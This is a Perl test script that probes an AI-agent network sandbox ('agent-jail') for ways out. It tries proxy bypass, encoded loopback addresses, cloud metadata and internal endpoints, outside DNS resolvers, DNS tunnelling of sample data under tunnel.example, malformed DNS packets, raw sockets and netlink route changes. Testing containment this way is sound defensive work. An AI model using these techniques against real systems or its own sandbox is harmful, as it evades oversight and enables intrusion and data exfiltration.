#!/usr/bin/perl
# results: B1-proxy B2-raw B2-forms B3-addresses B3-services B4-resolvers B4-tunnel B4-packets B6-names B8-sockets B8-datagrams B9-empty
# Out by the network, where the policy names no host: every address, every way to write one, every protocol.
use strict;
use warnings;
use FindBin;
use lib "$FindBin::Bin/lib";
use Probe;

use IO::Select;
use IO::Socket::INET;
use IO::Socket::IP;
use Socket qw(:DEFAULT getaddrinfo pack_sockaddr_in inet_aton);

my $REFUSAL = qr/^HTTP\/1\.1 403 .*agent-jail: /s;

# What the other side says to a request; undef: nobody took the connection.
sub ask {
    my ($id, $host, $port, $request) = @_;
    my $socket = IO::Socket::IP->new(PeerHost => $host, PeerPort => $port, Timeout => 3) or return undef;
    syswrite $socket, $request // "GET /latest/meta-data/ HTTP/1.1\r\nHost: $host\r\n\r\n";
    my ($answer, $select) = ('', IO::Select->new($socket));
    while ($select->can_read(2) && sysread $socket, my $more, 4096) { $answer .= $more }
    saw($id, $answer);
    return $answer;
}
# Ways to somebody who says anything else than the gateway's refusal.
sub answers {
    my ($id, $host, @ports) = @_;
    return grep { defined } map {
        my $answer = ask($id, $host, $_);
        defined $answer && $answer ne '' && $answer !~ $REFUSAL ? "$host:$_ answers" : undef;
    } @ports;
}

# A server of our own, by the same method.
my $server = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => 18081, Listen => 8, ReuseAddr => 1) or die "own server: $!";
my $pid = fork() // die;
if ($pid == 0) { while (my $client = $server->accept) { sysread $client, my $asked, 4096; print $client $ENV{RT_PLAIN}; close $client } POSIX::_exit(0) }
(ask('B2-raw', '127.0.0.1', 18081) // '') eq $ENV{RT_PLAIN} or die "own server does not answer\n";

my @ports = lines('host-ports');
{
    local @ENV{qw(http_proxy https_proxy HTTPS_PROXY ALL_PROXY NO_PROXY no_proxy)} = (('') x 4, '*', '*');
    my @curl = map { my $said = qx(curl -sS -m 5 --noproxy '*' 'http://127.0.0.1:$_/' 2> /dev/null); saw('B1-proxy', $said); $said eq '' ? () : "curl reached $_" } @ports;
    my $control = qx(curl -sS -m 5 --http0.9 --noproxy '*' 'http://127.0.0.1:18081/' 2> /dev/null);
    saw('B1-proxy', $control) or die "curl does not reach our own server\n";
    result('B1-proxy', @curl);
}

my @public = qw(1.1.1.1 8.8.8.8 140.82.112.3 104.16.0.1);
result('B2-raw', map { answers('B2-raw', $_, 80, 443, 22, 25, 8080) } @public);
my @forms = ('0x7f.1', '2130706433', '0177.0.0.1', '127.1', 'localhost', '::1', '::ffff:127.0.0.1', '::ffff:7f00:1', '64:ff9b::7f00:1', '0', '[::]');
result('B2-forms', map { answers('B2-forms', $_, @ports) } @forms);

my @inner = qw(169.254.169.254 168.63.129.16 100.100.100.200 10.0.0.1 10.255.255.53 172.16.0.1 172.17.0.1 192.168.0.1 192.168.1.1 fd00:ec2::254 fe80::1);
result('B3-addresses', map { answers('B3-addresses', $_, 80, 443, 2375) } @inner);
result('B3-services', map { answers('B3-services', $_, @ports) } '127.0.0.1', '172.17.0.1', '198.18.0.1', '198.19.255.255', '0.0.0.0');

# DNS: id, one question, recursion wanted.
sub question { my ($name, $type) = @_; return pack('n6', 7, 0x100, 1, 0, 0, 0) . join('', map { pack 'C/a', $_ } split /\./, $name) . pack('Cnn', 0, $type, 1) }
sub resolve {
    my ($server, $packet) = @_;
    my $socket = IO::Socket::INET->new(PeerAddr => $server, PeerPort => 53, Proto => 'udp') or return undef;
    $socket->send($packet) // return undef;
    IO::Select->new($socket)->can_read(2) or return undef;
    my $answer = '';
    return defined $socket->recv($answer, 4096) && length $answer ? $answer : undef;
}
sub rcode { my ($answer) = @_; return defined $answer ? ord(substr $answer, 3, 1) & 15 : undef }
my ($NXDOMAIN, $A, $TXT, $ANY, $AXFR) = (3, 1, 16, 255, 252);
rcode(resolve('127.0.0.1', question('not.listed.example', $A))) // -1 == $NXDOMAIN or die "the jail's own resolver does not answer\n";

my @resolvers = map { "$_ answers" } grep { defined resolve($_, question('example.com', $A)) } @public, qw(9.9.9.9 10.255.255.53 192.168.0.1);
push @resolvers, map { my ($host, $port) = @$_; my $said = ask('B4-resolvers', $host, $port, pack('n/a', question('example.com', $A))); defined $said && $said ne '' ? "$host:$port answers" : () }
    map { ([$_, 53], [$_, 853]) } @public;
push @resolvers, map { answers('B4-resolvers', $_, 443) } qw(cloudflare-dns.com dns.google);
result('B4-resolvers', @resolvers);

my $data = join '.', map { substr(unpack('H*', "data that is to leave, part $_"), 0, 60) } 1 .. 3;
my @tunnel = map { my ($name, $type) = @$_; (rcode(resolve('127.0.0.1', question($name, $type))) // -1) == $NXDOMAIN ? () : "$name, type $type, is answered" }
    map { my $type = $_; map { [$_, $type] } "$data.tunnel.example", 'tunnel.example', 'example.com', 'registry.npmjs.org' } $A, $TXT, 28, 65;
result('B4-tunnel', @tunnel);

my @packets = map { my $answer = resolve('127.0.0.1', $_); defined $answer && (rcode($answer) // 0) == 0 ? 'a malformed packet is answered' : () }
    (question('example.com', $ANY), question('example.com', $AXFR), "\0" x 12, pack('n6', 1, 0x100, 2, 0, 0, 0) . "\0" x 20, question('example.com', $A) . 'x' x 4000, pack('n6', 1, 0x100, 1, 0, 0, 0) . "\xc0\x0c\0\1\0\1", "\xff" x 512);
push @packets, 'the resolver does not answer any more' unless (rcode(resolve('127.0.0.1', question('still.there.example', $A))) // -1) == $NXDOMAIN;
result('B4-packets', @packets);

my @names = ("localhost.example.com", "127.0.0.1.nip.io", "example.com.", 'EXAMPLE.COM', "example.com\0.localhost", ' example.com', 'xn--e1afmkfd.xn--p1ai', 'host.docker.internal', 'gateway', '_gateway', 'metadata.google.internal');
result('B6-names', map { my ($error, @found) = getaddrinfo($_, 80, { socktype => SOCK_STREAM }); !$error && @found ? do { my $name = $_; $name =~ s/\0/NUL/; "$name has an address" } : () } @names);

# Families and kinds that would go around the gateway.
my %wanted = ('raw ICMP' => [2, 3, 1], 'raw IPv6' => [10, 3, 58], packet => [17, 3, 0x0300], vsock => [40, 1, 0], 'packet, cooked' => [17, 2, 0x0300], bluetooth => [31, 1, 3], can => [29, 3, 1]);
my @sockets = map { socket(my $socket, $wanted{$_}[0], $wanted{$_}[1], $wanted{$_}[2]) ? "$_ sockets can be made" : () } sort keys %wanted;
if (socket(my $netlink, 16, 3, 0)) {    # NETLINK_ROUTE: a default route by way of loopback
    my $route = pack('CCCCCCCCL', 2, 0, 0, 0, 254, 4, 0, 1, 0) . pack('SSL', 8, 4, 1);
    syswrite $netlink, pack('LSSLL', 16 + length $route, 24, 0x605, 1, 0) . $route;
    IO::Select->new($netlink)->can_read(1) and sysread $netlink, my $said, 4096;
    push @sockets, 'routes can be changed' if defined $said && length $said >= 20 && unpack('x16 l', $said) == 0;
}
result('B8-sockets', @sockets);

my @datagrams = map {
    my ($host, $port) = @$_;
    my ($socket, $said) = (IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'udp'), '');
    my $sent = $socket && defined $socket->send("\xc3\0\0\0\1" . "\0" x 1195);
    $sent && IO::Select->new($socket)->can_read(1) && defined $socket->recv($said, 2048) && length $said ? "$host:$port answers a datagram" : ();
} map { ([$_, 443], [$_, 123]) } @public;
result('B8-datagrams', @datagrams);

# The policy lists nothing: what presets and well-known agents reach is as far away as anything else.
result('B9-empty', map { answers('B9-empty', $_, 443) } qw(registry.npmjs.org api.anthropic.com api.openai.com pypi.org github.com));
kill 'KILL', $pid;
